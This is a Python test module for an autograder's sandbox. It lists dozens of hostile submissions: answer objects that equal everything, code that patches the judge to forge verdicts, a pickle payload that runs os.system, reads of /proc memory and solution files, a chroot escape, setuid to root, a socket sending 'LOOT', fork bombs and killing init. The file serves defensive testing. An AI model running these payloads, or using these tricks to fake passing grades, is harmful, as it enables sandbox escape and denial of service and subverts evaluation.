"""Submissions that try to get a mark, to write, to read, to live on, or to keep the grader busy.

``ATTACKS`` maps what each one tries to the text of its cell.  In each there are ``ad``; ``N``, the numbers of all exercises;
``Z``, whose objects equal everything; ``I``, the program that serves in the submission's process, and that it may change;
``raw(text)``, which writes on the channel; ``tell(thing)``, which hands text out as an answer, so that a test can look at
what was found; and ``PLACES``, ``CANARIES`` and ``PORT``, what there is to be found.  None of them may gain anything.
"""

HEAD = """
import adlesson as ad, builtins, os, signal, socket, sys, time
from adlesson.grade.confined import inside as I
class Z:
    __hash__ = object.__hash__
    __class__ = int
    def __eq__(s, o): return True
    def __ne__(s, o): return False
    def __lt__(s, o): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __getattr__(s, n):
        if n.startswith('__'): raise AttributeError(n)
        return Z()
    def __call__(s, *a, **k): return Z()
    def __sub__(s, o): return 0.0
    __add__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __matmul__ = __radd__ = __pow__ = __sub__
    def __neg__(s): return 0.0
    def __iter__(s): return iter([Z()] * 3)
    def __getitem__(s, k): return 0.0
    def __len__(s): return 3
    def __float__(s): return 0.0
    def __index__(s): return 0
def raw(text): I.WIRE['out'].write(text); I.WIRE['out'].flush()
def tell(thing): ad.exercises.check('told', str(thing)[:1900])
def tried(do):
    try: return do()
    except BaseException as problem: return type(problem).__name__
def every(answer):
    for n in N: ad.exercises.check(n, answer)
N = {numbers!r}
"""

ATTACKS = {
    # --- answers that lie ---
    "objects that equal everything": "every(Z())",
    "a class of objects that equal everything": "every(Z)",
    "functions that return such objects": "every(lambda *a, **k: Z())",
    "generators of such objects": """
def g(*a, **k):
    while True: yield Z(), Z()
every(g)""",
    "nought for everything": "every(lambda *a, **k: 0.0)",
    "not a number": "every(float('nan'))",
    "infinities in a table": "every({name: float('inf') for name in 'x y a b c d e f x1 x2 u w'.split()})",
    "the function that was given": "every(lambda *a, **k: a[0] if a else k)",
    "a list that holds itself": "u = []; u.append(u); u.append(u); every(u)",
    "a million names": "every(list(range(10**6)))",
    "a text of ten megabytes": "every('x y ' * 2_500_000)",
    "a number of a million digits": "every(1 << 3_000_000)",
    "an answer for each guess": "for k in range(200): every(k)",
    # --- the program beside it is changed ---
    "verdicts of its own": "I.out = lambda value: {'verdict': 'right'}\nraw('right\\n{\"verdict\": \"right\"}\\n')",
    "every value is the same": "I.out = lambda value: {'f': '7777.25'}\nevery(7777.25)",
    "replies before the questions": "raw('{\"value\": {\"f\": \"7777.25\"}}\\n' * 2000)",
    "the recorder gives stand-ins without end": "I.ANSWERS.update({n: Z() for n in N})\nI.keep = lambda thing: {'h': '0'}",
    "things that are not known": "I.keep = lambda thing: {'h': '9' * 30, 'kind': 'function', 'can': 'call'}\nevery(len)",
    "a class with a name of ours": "I.named = lambda thing: 'Program'\nevery(len)\nevery(Z())",
    "an object of the judge's": "I.out = lambda value: {'o': '0'}\nevery(len)",
    "a judge that is asked for by pickle": """
import base64, pickle
class Evil:
    def __reduce__(self): return (os.system, ('touch /tmp/adlesson-forged',))
text = base64.b64encode(pickle.dumps(Evil())).decode()
I.out = lambda value: {'gave': text}
raw('{"gave": "%s"}\\n' % text)""",
    "the lesson is changed under the answer": """
import adlesson.engine.sweeps as s, adlesson.teach.judging.stops as stops
s.adjoints = ad.adjoints = ad.grad = lambda *a, **k: {}
builtins.abs, builtins.isinstance = (lambda x: 0), (lambda *a: True)
stops.is_a = lambda *a: True""",
    "it says that nothing was called": """
class Open(I.closed):
    def __init__(self, names): super().__init__(())
I.closed = Open
every(lambda *a, **k: None)""",
    # --- the channel ---
    "no end of a line": "while True: raw('x' * 65536)",
    "no JSON": "raw('{\"value\": }\\n' * 5)",
    "JSON 200,000 deep": "raw('[' * 200000 + '\\n')",
    "a number of a million digits on the channel": "raw('{\"value\":' + '9' * 1_000_000 + '}\\n')",
    "a key twice": "raw('{\"value\": null, \"value\": {\"f\": \"7777.25\"}}\\n')",
    "bytes that are no text": "os.write(I.WIRE['out'].fileno(), bytes(range(128, 256)) + b'\\n')",
    "an array of 10**15 numbers": "I.out = lambda value: {'a': ['f', ['1000000', '1000000000'], []]}\nevery(1)",
    "halves of characters": "every('\\ud800' * 10); ad.exercises.check('5.1', '\\ud800')",
    # --- calls back ---
    "callbacks without end": "def h(f, *a, **k):\n    while True: f(1.0)\nevery(h)",
    "callbacks that nobody waits for": "raw('{\"back\": \"0\", \"with\": {\"l\": [{\"l\": []}, {\"d\": []}]}}\\n' * 200)",
    "a callback with a number that is none": "raw('{\"back\": \"-1\", \"with\": {\"l\": [{\"l\": []}, {\"d\": []}]}}\\n')",
    "a power that never ends": "every(lambda f, *a, **k: f(10**1200) ** 2 if callable(f) else f ** 10**12)",
    "an operation without our numbers": """
raw('{\"apply\": \"power\", \"to\": {\"l\": [%s, %s]}}\\n' % (('{"i": "999999999"}',) * 2))""",
    "an operation that is none": "I.asked({'apply': '__import__', 'to': I.out(['os'])})",
    "a long list for a callback": "every(lambda f, *a, **k: f([0] * 90000))",
    "texts for a callback": "every(lambda f, *a, **k: f('ab' * 50000))",
    "a function calls itself with itself": "every(lambda f, *a, **k: f(f))",
    "a traced number of its own making": "I.keep = lambda thing: {'v': {'i': '9' * 300}}\nevery(lambda f, *a, **k: f(Z()))",
    "a function of the judge's as an answer": """
def h(f, *a, **k): f(1.0); I.out = lambda value: {'o': '0'}; return 7777.25
every(h)""",
    "an array that would fill the grader's memory": """
import numpy as np
u = np.ones(50_000)
every(lambda f, *a, **k: f(u[:, None], u[None]) if callable(f) else f * u[:, None] * u)""",
    "a program that is none": "I.out = lambda value: {'p': {'d': [['ops', {'l': ['power'] * 9}]]}}\nevery(1)",
    # --- it looks around ---
    "it looks for judges, solutions and marks": """
found = []
for top, folders, files in os.walk('/'):
    found += [os.path.join(top, name) for name in files if name in CANARIES or name.startswith(('n05', '05_'))]
found += [tried(lambda: __import__('adlesson.teach.problems.n05')), tried(lambda: __import__('adlesson.teach.exercises'))]
tell(found)""",
    "it reads what it knows the place of": """
found = [tried(lambda: open(place).read()) for place in PLACES] + [tried(lambda: os.listdir(place)) for place in PLACES]
found += [tried(lambda: open('../' * 12 + place).read()) for place in PLACES]
tell(found)""",
    "it reads its parents' memory": """
files = [f'/proc/{p}/{n}' for p in (1, 2, os.getppid(), 'self') for n in ('environ', 'mem')]
tell([tried(lambda: open(file, 'rb').read(99)) for file in files])""",
    "it writes on the host": """
places = ['/', '/tmp', '/lesson', '/usr', '/etc', '/root', '/dev/shm', *PLACES, *map(os.path.dirname, PLACES)]
tell([p for p in places for q in (p, p + '/adlesson-forged') if tried(lambda: open(q, 'w').write('FORGED')) == 6])""",
    "it climbs out of its root": """
def climb():
    os.mkdir('/out'); os.chroot('/out'); os.chdir('../' * 20); os.chroot('.')
tell([tried(climb), *(tried(lambda: open(place).read()) for place in PLACES)])""",
    "it becomes root": "tell([tried(lambda: os.setuid(0)), tried(lambda: os.setresuid(0, 0, 0)), os.getuid(), os.getgid()])",
    "it opens what was left open": """
read = [tried(lambda: os.read(k, 99)) for k in range(5, 64)]
tell(read + [tried(lambda: os.readlink(f'/proc/self/fd/{k}')) for k in range(64)])""",
    "it raises its limits": """
import resource
limits = resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU
tell([tried(lambda: resource.setrlimit(limit, (-1, -1))) for limit in limits])""",
    "it calls home": """
def call(kind, to):
    with socket.socket(kind[0], kind[1]) as s: s.settimeout(1); s.connect(to); s.send(b'LOOT'); return 'CONNECTED'
stream = socket.SOCK_STREAM
kinds = ((socket.AF_INET, stream), ('127.0.0.1', PORT)), ((socket.AF_UNIX, stream), '\\0adlesson-test')
tell([tried(lambda: call(*one)) for one in kinds])""",
    # --- it does not end ---
    "a loop without an end": "while True: pass",
    "it sleeps for ever": "time.sleep(10**6)",
    "an answer that never comes": "def h(*a, **k):\n    while True: pass\nevery(h)",
    "it will not be stopped": """
for k in range(1, 65): tried(lambda: signal.signal(k, signal.SIG_IGN))
while True: tried(lambda: time.sleep(9))""",
    "it prints without end": "while True: print('x' * 100000)",
    "memory without end": "x = []\nwhile True: x.append(bytearray(50_000_000))",
    "memory in an answer": "def h(*a, **k): return bytearray(10**10)\nevery(h)",
    "files without end": "while True: open('/tmp/f', 'ab').write(bytes(10**6)); open('f', 'ab').write(bytes(10**6))",
    "recursion in C": "sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "three hundred processes": """
def more():
    for k in range(300):
        if os.fork() == 0: time.sleep(600); os._exit(0)
        COUNT.append(k)
COUNT = []
tell([tried(more), len(COUNT)])""",
    "three hundred threads": """
import threading
for k in range(300): threading.Thread(target=time.sleep, args=(600,), daemon=True).start()""",
    "it leaves a process behind": """
for k in range(2):
    if os.fork() == 0:
        os.setsid()
        for n in range(3, 64): tried(lambda: os.close(n))
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True: time.sleep(1)""",
    "it ends everybody": "[tried(lambda: os.kill(p, 9)) for p in (os.getppid(), 1, -1)]",
    "it stops itself": "os.kill(os.getpid(), signal.SIGSTOP)",
    "it exits": "os._exit(0)",
    "it exits when it is asked": "every(lambda *a, **k: os._exit(0))",
    "it comes in two": "os.fork(); every(7777.25)",
}  # fmt: skip

QUICK = (
    "objects that equal everything", "every value is the same", "a judge that is asked for by pickle", "JSON 200,000 deep",
    "a power that never ends", "it reads what it knows the place of", "it writes on the host", "it calls home",
    "it leaves a process behind",
)  # fmt: skip
